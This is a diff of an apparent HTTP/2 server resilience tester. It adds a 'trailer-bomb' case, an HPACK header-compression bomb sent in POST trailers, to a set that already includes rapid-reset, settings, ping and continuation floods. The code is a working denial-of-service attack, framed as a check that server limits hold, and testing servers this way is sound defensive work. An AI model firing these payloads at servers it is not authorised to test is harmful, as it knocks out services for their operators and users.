@@ -11,7 +11,7 @@ prints one line:
   served MS         (few-resets) the request after the resets was answered
   open              neither happened within 10 s (the limit did not hold)
 Attacks: rapid-reset, settings-flood, ping-flood, continuation-flood,
-big-headers, hpack-bomb; slow-reader opens 100 streams of large answers,
+big-headers, hpack-bomb, trailer-bomb; slow-reader opens 100 streams of large answers,
 reads nothing for 3 s and prints "stalled"; garbage opens 200 connections,
 each sending 40 random frames (random types, flags, streams, payloads, now
 and then a valid header block) and prints "done"; few-resets is the control: resets under the
@@ -113,10 +113,17 @@ def attack(sock, name, authority):
         block = request_block(authority, literal("x-bomb", "b" * 4000, indexed=True) +
                               bytes([0x80 | 62]) * 2000)
         send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
+    elif name == "trailer-bomb":
+        # The same bomb in the trailers of a POST.
+        send(frame(HEADERS, END_HEADERS, 1, literal(":method", "POST") +
+                   literal(":scheme", "http") + literal(":path", "/echo") +
+                   literal(":authority", authority)) + frame(DATA, 0, 1, b"x"))
+        block = literal("x-bomb", "b" * 4000, indexed=True) + bytes([0x80 | 62]) * 2000
+        send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
     else:
         raise SystemExit("unknown attack %r: want rapid-reset, few-resets, slow-reader, garbage,"
-                         " settings-flood, ping-flood, continuation-flood, big-headers or"
-                         " hpack-bomb" % name)
+                         " settings-flood, ping-flood, continuation-flood, big-headers,"
+                         " hpack-bomb or trailer-bomb" % name)
 
 
 def watch(sock, t0):
